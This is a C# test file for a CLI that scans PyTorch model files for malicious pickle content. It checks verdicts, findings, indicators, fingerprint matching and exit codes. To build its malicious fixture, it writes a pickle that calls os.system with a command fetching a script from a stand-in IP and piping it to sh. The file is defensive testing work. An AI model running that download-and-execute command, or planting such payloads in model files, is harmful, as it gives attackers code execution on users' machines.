using System.Text.Json;
using AiCtiPortal.Cli;
using AiCtiPortal.Engine.Tests.Artifacts.Builders;

namespace AiCtiPortal.Engine.Tests.Artifacts;

/// <summary>Runs 'aicti scan' in-process on files written to a temporary folder.</summary>
public sealed class ScanCommandTests : IDisposable
{
    private readonly string _dir = Directory.CreateTempSubdirectory("aicti-scan-cli-").FullName;
    private readonly string _benign;
    private readonly string _evil;

    public ScanCommandTests()
    {
        _benign = Write("clean.pt", ZipBuilder.TorchZip(PickleBuilder.TorchStateDict(("w", "0", 8, 8))));
        _evil = Write("evil.pt", ZipBuilder.TorchZip(PickleBuilder.CallWithString("os", "system", "curl http://198.51.100.4/a|sh")));
    }

    public void Dispose() => Directory.Delete(_dir, recursive: true);

    [Fact]
    public void Scan_exits_0_for_a_file_without_findings()
    {
        var (code, stdout, stderr) = Run("scan", _benign);

        Assert.Equal(0, code);
        Assert.Empty(stderr);
        Assert.StartsWith($"{_benign}\tNoFindings\tPyTorchZip\t0 findings", stdout, StringComparison.Ordinal);
    }

    [Fact]
    public void Scan_exits_1_and_prints_findings_for_a_malicious_file()
    {
        var (code, stdout, _) = Run("scan", _dir);

        Assert.Equal(1, code);
        Assert.Contains($"{_evil}\tMalicious\tPyTorchZip", stdout, StringComparison.Ordinal);
        Assert.Contains("[Critical] PICKLE_DENIED_GLOBAL archive/data.pkl@2", stdout, StringComparison.Ordinal);
    }

    [Fact]
    public void Scan_json_lists_verdicts_findings_indicators_and_provenance()
    {
        var (code, stdout, _) = Run("scan", "--json", _evil, _benign);

        Assert.Equal(1, code);
        using var json = JsonDocument.Parse(stdout);
        var evil = json.RootElement[0];
        Assert.Equal("Malicious", evil.GetProperty("verdict").GetString());
        Assert.Equal("aicti-engine", evil.GetProperty("analyser").GetString());
        Assert.Equal(64, evil.GetProperty("sha256").GetString()!.Length);
        Assert.Contains(evil.GetProperty("indicators").EnumerateArray(), i => i.GetProperty("type").GetString() == "IpAddress" && i.GetProperty("value").GetString() == "198.51.100.4");
        Assert.Contains(evil.GetProperty("findings").EnumerateArray(), f => f.GetProperty("code").GetString() == "PICKLE_DENIED_GLOBAL");
        Assert.Equal("NoFindings", json.RootElement[1].GetProperty("verdict").GetString());
    }

    [Fact]
    public void Scan_matches_fingerprints_against_a_known_list()
    {
        var (_, list, _) = Run("fingerprint", _benign);
        string kb = Write("kb.tsv", System.Text.Encoding.UTF8.GetBytes(list));

        var (code, stdout, _) = Run("scan", "--kb", kb, _benign);

        Assert.Equal(1, code);
        Assert.Contains($"[kb] {_benign} (sha256", stdout, StringComparison.Ordinal);
    }

    [Fact]
    public void Scan_exits_2_when_a_file_cannot_be_read_and_nothing_was_found()
    {
        var (code, _, stderr) = Run("scan", Path.Combine(_dir, "missing.pt"), _benign);

        Assert.Equal(2, code);
        Assert.Contains("missing.pt", stderr, StringComparison.Ordinal);
    }

    private string Write(string name, byte[] bytes)
    {
        string path = Path.Combine(_dir, name);
        File.WriteAllBytes(path, bytes);
        return path;
    }

    private static (int Code, string Stdout, string Stderr) Run(params string[] args)
    {
        var stdout = new StringWriter();
        var stderr = new StringWriter();
        int code = CliApp.Run(args, stdout, stderr);
        return (code, stdout.ToString(), stderr.ToString());
    }
}
